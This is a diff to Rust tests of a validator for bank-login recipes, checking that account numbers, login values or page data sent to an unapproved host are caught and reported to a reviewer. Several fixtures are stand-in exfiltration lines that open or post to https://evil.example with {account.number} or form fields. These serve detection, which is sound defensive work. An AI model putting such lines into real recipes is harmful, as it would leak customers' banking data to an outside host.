@@ -21,6 +21,22 @@ fn said(changes: &[(&str, &str)]) -> String {
     said_of(INSTITUTION, &recipe)
 }
 
+/// The institution, which says that the other host is its own as well.
+fn with_host() -> String {
+    INSTITUTION.replacen("history", "hosts = [\"https://evil.example\"]\nhistory", 1)
+}
+
+/// The same where the institution knows the second host.
+fn said_with_host(changes: &[(&str, &str)]) -> String {
+    let recipe = changes
+        .iter()
+        .fold(RECIPE.to_owned(), |recipe, (from, to)| {
+            assert!(recipe.contains(from), "the recipe has no {from:?}");
+            recipe.replacen(from, to, 1)
+        });
+    said_of(&with_host(), &recipe)
+}
+
 const FENCE: &str = "get    = [\"/login\"";
 const WIDER: &str = "get    = [\"https://evil.example/x\", \"/login\"";
 const POST: &str = "post   = [\"/auth\"";
@@ -35,7 +51,7 @@ fn only_what_is_the_same_for_everybody_goes_to_another_host() {
         "go = { open = \"https://evil.example/x?p={account.number}\", to = \"accounts\" }",
         "keep = { p = \"h1\" }\ngo = { open = \"https://evil.example/{p}\", to = \"accounts\" }",
     ] {
-        let said = said(&[(FENCE, WIDER), (MENU, way)]);
+        let said = said_with_host(&[(FENCE, WIDER), (MENU, way)]);
         assert!(
             said.contains("would go to another host, https://evil.example"),
             "{way}: {said}"
@@ -45,14 +61,14 @@ fn only_what_is_the_same_for_everybody_goes_to_another_host() {
         "keep = { p = \"h1\" }\ngo = { post = \"https://evil.example/x\", fields = { a = \"{p}\" }, to = \"accounts\" }",
         "keep = { p = \"h1\" }\ngo = { post = \"https://evil.example/x\", json = { a = [{ b = \"{p}\" }] }, to = \"accounts\" }",
     ] {
-        let said = said(&[(POST, POSTS_WIDER), (MENU, way)]);
+        let said = said_with_host(&[(POST, POSTS_WIDER), (MENU, way)]);
         assert!(
             said.contains("would go to another host, https://evil.example"),
             "{way}: {said}"
         );
     }
     let dated = "go = { open = \"https://evil.example/x?d={today:YYYY}\", to = \"accounts\" }";
-    let dated = said(&[(FENCE, WIDER), (MENU, dated)]);
+    let dated = said_with_host(&[(FENCE, WIDER), (MENU, dated)]);
     assert_eq!(dated, "");
 }
 
@@ -61,10 +77,55 @@ fn a_reviewer_sees_every_second_host() {
     let recipe = RECIPE
         .replacen(FENCE, WIDER, 1)
         .replacen(POST, POSTS_WIDER, 1);
-    let recipe = Recipe::read(INSTITUTION, &recipe).expect("a recipe");
+    let recipe = Recipe::read(&with_host(), &recipe).expect("a recipe");
     assert_eq!(recipe.second_hosts(), ["https://evil.example"]);
     let plain = Recipe::read(INSTITUTION, RECIPE).expect("a recipe");
     assert!(plain.second_hosts().is_empty());
+}
+
+#[test]
+fn no_line_of_a_recipe_reaches_a_host_that_the_institution_does_not_know() {
+    for changes in [[(FENCE, WIDER)], [(POST, POSTS_WIDER)]] {
+        let said = said(&changes);
+        assert!(
+            said.contains("https://evil.example is no host of the institution"),
+            "{said}"
+        );
+        assert!(
+            said.contains("hosts = [\"https://evil.example\"]"),
+            "{said}"
+        );
+    }
+    let pictures = "get    = [\"/login\"";
+    let assets = "assets = [\"https://cdn.example/js/*\"]\nget    = [\"/login\"";
+    assert_eq!(said(&[(pictures, assets)]), "", "a browser's pictures");
+}
+
+#[test]
+fn a_picture_is_what_the_page_shows() {
+    let with = |picture: &str| {
+        let asks = "asks     = \"one-time-password\"";
+        let own = format!("asks     = \"picture\"\npicture  = {picture}");
+        said(&[(asks, &own)])
+    };
+    for made_up in [
+        "[{ always = \"https://evil.example/x?p=\" }, { css = \"#echo\" }]",
+        "{ always = \"/x\" }",
+        "{ from = \"account.number\" }",
+        "[\"#a\", \"#b\"]",
+        "{ either = [{ css = \"img\", attr = \"src\" }, { always = \"/x\" }] }",
+    ] {
+        let said = with(made_up);
+        let wanted = "`picture` is an address that stands on the page";
+        assert!(said.contains(wanted), "{made_up}: {said}");
+    }
+    for shown in [
+        "{ css = \"img#captcha\", attr = \"src\" }",
+        "{ json = \"image.url\" }",
+        "{ either = [{ css = \"img.a\", attr = \"src\" }, { css = \"img.b\", attr = \"src\" }] }",
+    ] {
+        assert_eq!(with(shown), "", "{shown}");
+    }
 }
 
 #[test]
@@ -102,7 +163,11 @@ fn the_origin_is_the_login_pages_or_one_that_the_institution_names() {
         "{said}"
     );
     let spoken = INSTITUTION.replacen("history", "hosts = [\"https://evil.example\"]\nhistory", 1);
-    assert_eq!(said_of(&spoken, &elsewhere), "");
+    let told = said_of(&spoken, &elsewhere);
+    assert!(
+        told.contains("warning: login values go to https://evil.example; the login_page that customers are shown is on https://ib.mihon.example"),
+        "{told}"
+    );
 
     for (origin, why) in [
         ("https://127.0.0.1", "is a number"),
